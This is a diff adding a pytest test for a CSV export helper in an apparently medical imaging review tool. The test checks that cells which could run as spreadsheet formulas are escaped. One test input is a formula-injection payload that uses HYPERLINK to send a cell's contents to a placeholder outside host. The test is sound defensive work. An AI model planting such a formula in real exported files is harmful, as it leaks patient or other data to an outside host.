@@ -117,3 +117,13 @@ def test_export_command_without_database(
     assert code == 4
     assert "no review database there" in capsys.readouterr().err
     assert not (tmp_path / "absent.sqlite").exists()
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas() -> None:
+    from imaging_triage.review.export import spreadsheet_safe
+
+    assert spreadsheet_safe('=HYPERLINK("http://x/"&A2)') == '\'=HYPERLINK("http://x/"&A2)'
+    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"
+    assert spreadsheet_safe("-12.5") == "-12.5"  # a number as text stays a number
+    assert spreadsheet_safe(-3.0) == -3.0
+    assert spreadsheet_safe("left frontal SDH") == "left frontal SDH"
